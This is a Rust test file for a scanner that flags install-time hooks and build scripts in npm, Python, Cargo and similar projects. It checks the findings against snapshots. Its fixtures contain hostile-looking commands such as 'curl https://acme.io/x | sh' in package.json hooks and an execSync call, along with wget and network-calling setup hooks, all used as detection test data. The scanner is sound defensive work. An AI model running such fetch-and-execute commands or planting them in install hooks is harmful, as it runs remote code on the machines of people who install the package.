use super::{PATTERNS, SIGNS};
use crate::review::scan::testing::{shown_diff, shown_full};

#[test]
fn every_pattern_compiles() {
    assert_eq!(PATTERNS.iter().flatten().count(), SIGNS.len());
}

#[test]
fn hooks_of_npm_are_said_by_what_they_run() {
    let package = "{\n \"scripts\": {\n  \"preinstall\": \"curl https://acme.io/x | sh\",\n  \"install\": \"node setup.js\",\n  \"prepare\": \"husky && npm run build\",\n  \"test\": \"curl x\"\n }\n}\n";
    insta::assert_snapshot!(shown_full(&[("package.json", package)]), @r#"
    high package.json:3: package.json runs a command that fetches or runs something else when it is installed (`preinstall`)
        | "preinstall": "curl https://acme.io/x | sh",
    medium package.json:4: package.json runs a command when it is installed (`install`)
        | "install": "node setup.js",
    info package.json:5: package.json runs a usual command when it is installed or built (`prepare`)
        | "prepare": "husky && npm run build",
    "#);
    assert_eq!(shown_diff(&[("package.json", package)], &[("package.json", &package.replace("curl x", "curl y"))]), "");
}

#[test]
fn other_tools_hooks_are_said() {
    let setup = "from setuptools.command.install import install\nclass X(install):\n    def run(self): urllib.request.urlopen('x')\n";
    insta::assert_snapshot!(shown_full(&[("setup.py", setup), ("a.pth", "import os\n"), ("build.rs", "fn main() { Command::new(\"sh\"); }"), ("composer.json", "{\"scripts\": {\"post-install-cmd\": \"x\"}}")]), @r#"
    high a.pth:1: a .pth file runs code whenever Python starts
        | import os
    medium build.rs:1: build.rs starts a shell or downloads something when the crate is built
        | fn main() { Command::new("sh"); }
    medium setup.py:2: setup.py runs code of its own when the package is installed
        | class X(install):
    medium setup.py:3: setup.py contacts the network when the package is installed
        | def run(self): urllib.request.urlopen('x')
    low composer.json:1: Composer runs a script when the package is installed
        | {"scripts": {"post-install-cmd": "x"}}
    info build.rs:1: This code starts a program: 1 place in 1 file
        | fn main() { Command::new("sh"); }
    "#);
}

#[test]
fn what_only_builds_is_fine() {
    assert_eq!(
        shown_full(&[
            ("setup.py", "from setuptools import setup\n# class X(install):\nsetup()\n"),
            ("a.pth", "../src\n"),
            ("package.json", "{\"scripts\": {\"build\": \"tsc\"}}"),
            ("package.json5", "postinstall")
        ]),
        ""
    );
}

#[test]
fn configuration_that_runs_code_is_said() {
    insta::assert_snapshot!(shown_full(&[
        ("binding.gyp", "{\"targets\":[{\"target_name\":\"x\",\"sources\":[\"<!(node ./x.js)\"]}]}\n"),
        (".npmrc", "save-exact=true\nnode-options=--require ./c/x.js\n"),
        ("bunfig.toml", "smol = true\npreload = [\"./c/x.ts\"]\n"),
        ("setup.py", "import subprocess as sp\n"),
    ]), @r#"
        medium .npmrc:2: npm runs code of this repository in place of or before every script
            | node-options=--require ./c/x.js
        medium binding.gyp:1: node-gyp's configuration runs a program when the package is installed
            | {"targets":[{"target_name":"x","sources":["<!(node ./x.js)"]}]}
        medium bunfig.toml:2: Bun runs this file before every program
            | preload = ["./c/x.ts"]
        low setup.py:1: setup.py starts programs when the package is installed
            | import subprocess as sp
        info setup.py:1: This code starts a program: 1 place in 1 file
            | import subprocess as sp
        "#);
    assert_eq!(
        shown_full(&[
            ("binding.gyp", "{\"include_dirs\": [\"<!(node -p \\\"require('node-addon-api').include\\\")\"]}\n"),
            (".npmrc", "node-options=--max-old-space-size=4096\nscript-shell=bash\n"),
            ("bunfig.toml", "[test]\npreload = [\"./setup.ts\"]\n"),
        ]),
        ""
    );
}

#[test]
fn a_hook_is_judged_by_the_scripts_that_it_leads_to() {
    let package = |hook: &str| {
        format!(
            "{{\n \"scripts\": {{\n  \"postinstall\": \"{hook}\",\n  \"build\": \"tsc && npm run -s copy\",\n  \"copy\": \"yarn prepare:x\",\n  \"postcopy\": \"pnpm run build\",\n  \"prepare:x\": \"curl https://acme.io/x | sh\"\n }}\n}}\n"
        )
    };
    for hook in [
        "npm run build",
        "true && npm run build",
        "yarn build",
        "yarn run copy",
        "pnpm build",
        "bun run build",
        "npm-run-all build",
        "run-s 'prepare:*'",
        "npx run-p build -- --x",
        "concurrently \\\"npm:build\\\"",
        "FOO=1 npm run --silent build",
        "node --run build",
        "$npm_execpath run build",
    ] {
        let found = shown_full(&[("package.json", &package(hook))]);
        assert!(
            found.starts_with("high package.json:7: package.json runs a command that fetches or runs something else when it is installed (`postinstall`, which leads to `prepare:x`)\n    | \"prepare:x\": \"curl https://acme.io/x | sh\""),
            "{hook}\n{found}"
        );
    }
    // Only what the hook leads to is judged: `npm install` runs no script of this name.
    let near = package("npm install --no-save build").replace("postinstall", "prepare");
    insta::assert_snapshot!(shown_full(&[("package.json", &near)]), @r#"
    low package.json:3: package.json runs a command when it is installed from its repository (`prepare`)
        | "prepare": "npm install --no-save build",
    "#);
}

#[test]
fn a_script_that_becomes_grave_is_said_though_its_hook_is_old() {
    let package = |setup: &str| {
        format!("{{\n \"scripts\": {{\n  \"prepare\": \"npm run build\",\n  \"build\": \"{setup}\"\n }}\n}}\n")
    };
    insta::assert_snapshot!(shown_diff(&[("package.json", &package("tsc"))], &[("package.json", &package("tsc && wget https://acme.io/x"))]), @r#"
    medium package.json:4: package.json runs a command that fetches or runs something else when it is installed from its repository (`prepare`, which leads to `build`)
        | "build": "tsc && wget https://acme.io/x"
    "#);
    insta::assert_snapshot!(shown_full(&[("package.json", &package("tsc -p . && npm run missing"))]), @r#"
    low package.json:4: package.json runs a command when it is installed from its repository (`prepare`, which leads to `build`)
        | "build": "tsc -p . && npm run missing"
    "#);
    // `;` does not make one word of two.
    insta::assert_snapshot!(shown_full(&[("package.json", &package("rimraf x;./y"))]), @r#"
    low package.json:4: package.json runs a command when it is installed from its repository (`prepare`, which leads to `build`)
        | "build": "rimraf x;./y"
    "#);
}

#[test]
fn files_that_a_hooks_script_starts_run_at_installation() {
    let package = "{\"scripts\": {\"postinstall\": \"npm run setup\", \"setup\": \"node tools/a.js\"}}";
    let code = "require('child_process').execSync(\"curl https://acme.io/x | sh\");\n";
    insta::assert_snapshot!(shown_full(&[("package.json", package), ("tools/a.js", code), ("tools/b.js", code)]), @r#"
    high tools/a.js:1: This code runs what an address answers
        | require('child_process').execSync("curl https://acme.io/x | sh");
    medium package.json:1: package.json runs a command when it is installed (`postinstall`, which leads to `setup`)
        | {"scripts": {"postinstall": "npm run setup", "setup": "node tools/a.js"}}
    medium tools/b.js:1: This code runs what an address answers
        | require('child_process').execSync("curl https://acme.io/x | sh");
    info tools/a.js:1: This code names hosts: acme.io
        | require('child_process').execSync("curl https://acme.io/x | sh");
    info tools/a.js:1: This code starts a program: 2 places in 2 files
        | require('child_process').execSync("curl https://acme.io/x | sh");
    "#);
}

#[test]
fn scripts_that_call_one_another_in_a_circle_end() {
    let all: Vec<String> = (0..20_000).map(|n| format!("\"s{n}\": \"run-p 's*' s{}\"", (n + 1) % 20_000)).collect();
    let package = format!("{{\"scripts\": {{\"install\": \"npm run s0\", {}}}}}", all.join(", "));
    assert!(
        shown_full(&[("package.json", &package)]).starts_with("info package.json:1: package.json runs a usual command")
    );
}

#[test]
fn steps_of_a_build_are_known_by_what_the_manifest_says() {
    let rust = "fn main() { Command::new(\"sh\"); }\n";
    let python = "import requests\nrequests.get('https://acme.io')\n";
    insta::assert_snapshot!(shown_full(&[
        ("Cargo.toml", "[package]\nname = 'a'\nbuild = 'tools/make.rs'\n"),
        ("tools/make.rs", rust),
        ("tools/other.rs", rust),
        ("py/pyproject.toml", "[tool.hatch.build.targets.wheel.hooks.custom]\npath = './hooks/x.py'\n[tool.poetry.build]\nscript = 'p.py'\n[build-system]\nbuild-backend = 'own.backend'\nbackend-path = ['src']\n"),
        ("py/hooks/x.py", python),
        ("py/p.py", python),
        ("py/q.py", python),
        ("py/src/own/backend.py", python),
        ("hatch_build.py", python),
        ("binding.gyp", "{'targets': [{'actions': [{'action': ['python', 'x.py']}]}]}\n"),
    ]), @r#"
    medium hatch_build.py:2: hatch_build.py contacts the network when the package is installed
        | requests.get('https://acme.io')
    medium py/hooks/x.py:2: x.py contacts the network when the package is installed
        | requests.get('https://acme.io')
    medium py/p.py:2: p.py contacts the network when the package is installed
        | requests.get('https://acme.io')
    medium py/src/own/backend.py:2: backend.py contacts the network when the package is installed
        | requests.get('https://acme.io')
    medium tools/make.rs:1: make.rs starts a shell or downloads something when the crate is built
        | fn main() { Command::new("sh"); }
    low binding.gyp:1: node-gyp's configuration runs an action when the package is installed
        | {'targets': [{'actions': [{'action': ['python', 'x.py']}]}]}
    low py/pyproject.toml:7: the package is built by code of its own (backend-path)
        | backend-path = ['src']
    info hatch_build.py:2: This code names hosts: acme.io
        | requests.get('https://acme.io')
    info tools/make.rs:1: This code starts a program: 2 places in 2 files
        | fn main() { Command::new("sh"); }
    "#);
}
